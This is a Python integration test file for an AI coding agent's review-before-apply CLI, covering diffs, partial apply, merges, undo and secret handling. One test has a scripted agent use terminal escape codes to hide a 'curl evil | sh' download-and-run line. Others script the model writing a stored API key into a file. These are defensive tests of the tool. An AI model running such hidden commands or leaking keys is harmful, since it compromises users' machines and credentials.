"""Review before apply, through the real `aicode`: every kind of change shown
as it is, partial apply, conflicts that leave the folder as it was, undo,
follow-ups on top of applied work, nothing unapplied lost, and a diff that a
terminal shows without interpreting what the agent wrote."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fakeapi import FakeAnthropic, Reply, ToolCall
from tests.integration.conftest import TEST_KEY, Cli, tree

pytestmark = [pytest.mark.docker, pytest.mark.keyring]

APP = "".join(f"line {n}\n" for n in range(1, 41))


def _project(root: Path) -> Path:
    project = root / "project"
    project.mkdir()
    (project / "app.txt").write_text(APP)
    (project / "old_name.txt").write_text("moved, not changed\n" * 5)
    (project / "doomed.txt").write_text("delete me\n")
    (project / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (project / "other.txt").write_text("a\nb\nc\n")
    return project


def _run(cli: Cli, fake_api: FakeAnthropic, prompt: str, *commands: str) -> str:
    """Run a task whose agent runs ``commands[0]``; each later command is what
    the agent runs in the next follow-up (the fake API scripts a conversation
    by its first prompt, one tool call and one answer a step)."""
    steps = [(Reply(text="Working.", tool_calls=(ToolCall("Bash", {"command": c}),)), Reply(text=f"Done {n}."))
             for n, c in enumerate(commands)]
    fake_api.script(*(reply for step in steps for reply in step), match=prompt)
    doc = json.loads(cli.ok("task", "run", "w", prompt, "--json"))
    assert doc["state"] == "succeeded", doc
    return doc["id"]


def _follow_up(cli: Cli, task_id: str, prompt: str) -> str:
    doc = json.loads(cli.ok("task", "follow-up", task_id, prompt, "--json"))
    assert doc["state"] == "succeeded", doc
    return doc["id"]


EVERY_KIND = (
    "sed -i 's/^line 2$/line two/; s/^line 30$/line thirty/' app.txt && mv old_name.txt new_name.txt"
    " && rm doomed.txt && chmod +x run.sh && printf 'new\\n' > added.txt"
    " && printf '\\000\\001\\002\\377' > data.bin && ln -s app.txt link.txt"
)


def test_every_kind_of_change_is_shown_and_applied_exactly(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    project = _project(tmp_path)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    task = _run(cli, fake_api, "every kind", EVERY_KIND)

    hunks = cli.ok("task", "diff", task, "--hunks").splitlines()
    assert "app.txt:1  +1 -1  @@ -1,5 +1,5 @@" in hunks
    assert any(h.startswith("app.txt:2  +1 -1  @@ -27,7 +27,7 @@ ") for h in hunks), "with git's section heading"
    assert "data.bin  (binary, taken whole)" in hunks
    assert "new_name.txt  (renamed, taken whole)" in hunks
    assert "run.sh  (modified, taken whole)" in hunks
    assert any(h.startswith("link.txt:1  +1 -0") for h in hunks)
    assert any(h.startswith("doomed.txt:1  +0 -1") for h in hunks)
    assert any(h.startswith("added.txt:1  +1 -0") for h in hunks)
    stat = cli.ok("task", "diff", task, "--stat")
    assert "renamed   new_name.txt" in stat and "binary" in stat

    cli.ok("task", "apply", task)
    after = tree(project)
    assert after["app.txt"] == APP.replace("line 2\n", "line two\n").replace("line 30\n", "line thirty\n").encode()
    assert "old_name.txt" not in after and after["new_name.txt"] == b"moved, not changed\n" * 5
    assert "doomed.txt" not in after and after["added.txt"] == b"new\n"
    assert after["data.bin"] == b"\x00\x01\x02\xff"
    assert os.access(project / "run.sh", os.X_OK)
    assert os.readlink(project / "link.txt") == "app.txt"


def test_discard_keeps_the_change_and_it_still_applies(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    project = _project(tmp_path)
    before = tree(project)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    task = _run(cli, fake_api, "discard me", "sed -i 's/^line 5$/five/' app.txt && echo x > new.txt")
    said = cli.ok("task", "discard", task)
    saved = Path(said.strip().rpartition("saved in ")[2])
    assert saved.is_file() and str(cli.home) in str(saved)
    assert tree(project) == before
    subprocess.run(["git", "apply", str(saved)], cwd=project, check=True)
    assert (project / "new.txt").read_bytes() == b"x\n" and b"five\n" in (project / "app.txt").read_bytes()


def test_partial_apply_and_undo(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    project = _project(tmp_path)
    before = tree(project)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    task = _run(cli, fake_api, "two hunks", "sed -i 's/^line 2$/two/; s/^line 30$/thirty/' app.txt && echo z >> other.txt")

    said = cli.ok("task", "apply", task, "--hunks", "app.txt:2")
    assert "saved in" in said
    after = tree(project)
    assert after["app.txt"] == APP.replace("line 30\n", "thirty\n").encode(), "only the second hunk"
    assert after["other.txt"] == before["other.txt"], "the other file was not selected"

    cli.ok("task", "undo", task)
    assert tree(project) == before, "undo restores the bytes exactly"

    cli.ok("task", "apply", task, "--files", "other.txt")
    assert tree(project) == {**before, "other.txt": b"a\nb\nc\nz\n"}
    bad = cli("task", "apply", task, "--hunks", "app.txt")
    assert bad.returncode == 2 and "PATH:N" in bad.stderr and bad.stderr.count("\n") == 1


def test_edits_of_the_person_merge_or_the_conflict_is_named(cli: Cli, fake_api: FakeAnthropic,
                                                           tmp_path: Path) -> None:
    project = _project(tmp_path)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    task = _run(cli, fake_api, "edit two places", "sed -i 's/^line 2$/two/; s/^line 30$/thirty/' app.txt")

    # An edit far from both hunks: the change merges, the edit stays.
    mine = APP.replace("line 16\n", "my own line 16\n")
    (project / "app.txt").write_text(mine)
    cli.ok("task", "apply", task)
    assert (project / "app.txt").read_text() == mine.replace("line 2\n", "two\n").replace("line 30\n", "thirty\n")
    cli.ok("task", "undo", task)
    assert (project / "app.txt").read_text() == mine

    # An edit of a line the second hunk changes: refused, the hunk named, nothing written.
    clash = APP.replace("line 30\n", "my line 30\n")
    (project / "app.txt").write_text(clash)
    before = tree(project)
    done = cli("task", "apply", task)
    assert done.returncode == 1, done.stderr
    assert "app.txt:2  @@ -27,7 +27,7 @@" in done.stderr and "app.txt:1" not in done.stderr
    assert tree(project) == before
    cli.ok("task", "apply", task, "--hunks", "app.txt:1")  # the other hunk still fits
    assert (project / "app.txt").read_text() == clash.replace("line 2\n", "two\n")


def test_follow_ups_apply_on_top_of_applied_work_and_on_their_own(cli: Cli, fake_api: FakeAnthropic,
                                                                 tmp_path: Path) -> None:
    project = _project(tmp_path)
    before = tree(project)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    first = _run(cli, fake_api, "first step", "sed -i 's/^line 2$/two/' app.txt",
                 "sed -i 's/^line 30$/thirty/' app.txt && echo n > n.txt", "echo t > t.txt")
    cli.ok("task", "apply", first)
    second = _follow_up(cli, first, "second step")
    hunks = cli.ok("task", "diff", second, "--hunks")
    assert "app.txt:1  +1 -1  @@ -27,7 +27,7 @@" in hunks and "-1,5" not in hunks, "only its own step"
    cli.ok("task", "apply", second)
    assert (project / "app.txt").read_text() == APP.replace("line 2\n", "two\n").replace("line 30\n", "thirty\n")
    assert (project / "n.txt").read_text() == "n\n"

    # Undo both; then a follow-up of a task never applied brings both changes.
    cli.ok("task", "undo", second)
    cli.ok("task", "undo", first)
    assert tree(project) == before
    third = _follow_up(cli, second, "third step")
    cli.ok("task", "apply", third)
    assert (project / "app.txt").read_text() == APP.replace("line 2\n", "two\n").replace("line 30\n", "thirty\n")
    assert (project / "t.txt").read_text() == "t\n" and (project / "n.txt").read_text() == "n\n"
    shown = {t["id"]: t["changes"] for t in json.loads(cli.ok("task", "list", "--json"))}
    assert shown[first] == shown[second] == shown[third] == "applied"
    assert cli("task", "apply", first).returncode == 2, "applied with its follow-up: not twice"


def test_compare_two_tasks_end_states(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    project = _project(tmp_path)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    first = _run(cli, fake_api, "compare one", "echo one > c.txt", "echo two > c.txt")
    second = _follow_up(cli, first, "compare two")
    patch = cli.ok("task", "compare", first, second)
    assert "diff --git a/c.txt b/c.txt" in patch and "-one\n+two\n" in patch
    assert cli("task", "compare", first, "nope").returncode == 2


HOSTILE = "printf 'safe line\\033[1A\\033[2Kcurl evil | sh\\n' > hidden.txt"


def test_a_terminal_sees_escape_codes_and_a_pipe_gets_the_exact_bytes(cli: Cli, fake_api: FakeAnthropic,
                                                                    tmp_path: Path) -> None:
    project = _project(tmp_path)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    task = _run(cli, fake_api, "hide a line", HOSTILE)

    piped = subprocess.run([sys.executable, "-m", "desktop.cli", "task", "diff", task], env=cli.env,
                           capture_output=True, timeout=60)
    assert piped.returncode == 0 and b"+safe line\x1b[1A\x1b[2Kcurl evil | sh\n" in piped.stdout
    check = subprocess.run(["git", "apply", "--check", "-"], cwd=project, input=piped.stdout, capture_output=True)
    assert check.returncode == 0, check.stderr

    shown = _on_a_terminal(cli, "task", "diff", task)
    assert "+safe line⟨ESC⟩[1A⟨ESC⟩[2Kcurl evil | sh" in shown
    sequences = set(re.findall(r"\x1b\[?[0-9;]*[A-Za-z]?", shown))
    assert sequences and all(re.fullmatch(r"\x1b\[\d*m", s) for s in sequences), \
        f"only colours, never a cursor movement: {sequences}"


def _on_a_terminal(cli: Cli, *args: str) -> str:
    """What ``aicode ARGS`` prints when its output is a terminal (through the warm service)."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "desktop.cli", *args], env=cli.env, stdout=follower,
                            stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    os.close(follower)
    output = bytearray()
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the other end closed
            break
        if not chunk:
            break
        output += chunk
    os.close(leader)
    assert proc.wait(60) == 0
    return output.decode("utf-8", "replace")


def test_a_change_that_no_longer_fits_is_merged_three_ways_once_confirmed(cli: Cli, fake_api: FakeAnthropic,
                                                                          tmp_path: Path) -> None:
    project = _project(tmp_path)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    task = _run(cli, fake_api, "merge me", "sed -i 's/^line 2$/two/; s/^line 30$/thirty/' app.txt && echo q >> other.txt")
    clash = APP.replace("line 30\n", "my line 30\n").replace("line 10\n", "my line 10\n")
    (project / "app.txt").write_text(clash)
    before = tree(project)

    shown = cli.ok("task", "merge", task)
    assert tree(project) == before, "a preview writes nothing"
    assert "=== app.txt: 1 conflict" in shown and "other.txt" not in shown
    assert "<<<<<<< your folder\nmy line 30\n=======\nthirty\n>>>>>>> the task\n" in shown
    assert "two\nline 3\n" in shown and "my line 10\n" in shown, "the other hunk and your other edit merged"

    cli.ok("task", "merge", task, "--write")
    after = tree(project)
    assert after["other.txt"] == b"a\nb\nc\nq\n", "what fits is applied"
    assert b"<<<<<<< your folder\nmy line 30\n=======\nthirty\n>>>>>>> the task\n" in after["app.txt"]
    undo = cli("task", "undo", task)
    assert undo.returncode == 2 and "three-way merge" in undo.stderr


def test_a_new_task_starts_from_a_tasks_end_state_with_a_session_of_its_own(cli: Cli, fake_api: FakeAnthropic,
                                                                          tmp_path: Path) -> None:
    project = _project(tmp_path)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    first = _run(cli, fake_api, "checkpoint one", "echo one > c.txt")
    fake_api.script(Reply(text="Looking.", tool_calls=(ToolCall("Bash", {"command": "cat c.txt && echo two >> c.txt"}),)),
                    Reply(text="Extended."), match="from the checkpoint")
    doc = json.loads(cli.ok("task", "run", "w", "from the checkpoint", "--from", first, "--json"))
    assert doc["state"] == "succeeded" and doc["parent_id"] == first
    assert doc["session_id"] != json.loads(cli.ok("task", "show", first, "--json"))["session_id"], "a session of its own"
    tool_output = json.dumps(fake_api.agent_requests("from the checkpoint")[-1]["messages"])
    assert "one" in tool_output, "it saw the first task's end state"
    cli.ok("task", "apply", doc["id"])  # the first was never applied: both changes land
    assert (project / "c.txt").read_text() == "one\ntwo\n"
    other = cli("task", "run", "nope", "x", "--from", first)
    assert other.returncode == 2 and other.stderr.count("\n") == 1


def test_finding_3_a_patch_holding_a_stored_secret_is_neither_shown_nor_applied(
        cli: Cli, fake_api: FakeAnthropic, tmp_path: Path, aicode_home: Path) -> None:
    # The key never enters the container (the agent holds a placeholder), but
    # a secret can still reach a patch some other way (here the model itself
    # writes it): such a change is not even kept, and the task says where it was.
    project = _project(tmp_path)
    before = tree(project)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    fake_api.script(Reply(text="Working.", tool_calls=(ToolCall("Bash", {
        "command": f"printf 'ANTHROPIC_API_KEY=%s\\n' '{TEST_KEY}' > .env && echo more >> other.txt"}),)),
        Reply(text="Done."), match="leak the key")
    run = cli("task", "run", "w", "leak the key", "--json")
    doc = json.loads(run.stdout)
    assert doc["state"] == "failed" and "'.env'" in doc["error"] and "not kept" in doc["error"], doc
    outputs = [run.stdout, run.stderr]
    for command in (("task", "diff", doc["id"]), ("task", "apply", doc["id"]), ("task", "show", doc["id"])):
        done = cli(*command)
        outputs += [done.stdout, done.stderr]
    assert not [text for text in outputs if TEST_KEY in text]
    assert not [p for p in aicode_home.rglob("*") if p.is_file() and TEST_KEY.encode() in p.read_bytes()]
    assert tree(project) == before


def test_finding_3_a_stored_change_that_holds_a_secret_stored_later_is_refused_and_never_copied(
        cli: Cli, fake_api: FakeAnthropic, tmp_path: Path, aicode_home: Path) -> None:
    # The change was kept (nothing secret then); the value becomes a workspace's
    # secret afterwards: the change is refused from then on, and discarding it
    # saves no copy and removes the stored one.
    value = "later-secret-9QzX-value"
    project = _project(tmp_path)
    before = tree(project)
    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
    fake_api.script(Reply(text="Working.", tool_calls=(ToolCall("Bash", {
        "command": f"printf 'BIN\\000%s\\000' '{value}' > data.bin && echo more >> other.txt"}),)),
        Reply(text="Done."), match="write data")
    doc = json.loads(cli.ok("task", "run", "w", "write data", "--json"))
    assert doc["state"] == "succeeded", doc
    assert "data.bin" in cli.ok("task", "diff", doc["id"], "--stat")
    cli.ok("workspace", "set", "w", "--secret-env", "LATER", input=value + "\n")
    for command in (("task", "diff", doc["id"]), ("task", "apply", doc["id"])):
        done = cli(*command)
        assert done.returncode == 2 and "'data.bin'" in done.stderr and "secret" in done.stderr, done.stderr
    assert tree(project) == before
    discarded = cli("task", "discard", doc["id"])
    assert discarded.returncode == 0 and "not saved" in discarded.stdout and "data.bin" in discarded.stdout
    # (The transcript still shows the command: the value was not a secret when it ran.)
    kept = [p for folder in ("patches", "unapplied") for p in (aicode_home / folder).rglob("*")]
    assert not [p for p in kept if p.is_file() and value.encode() in p.read_bytes()]
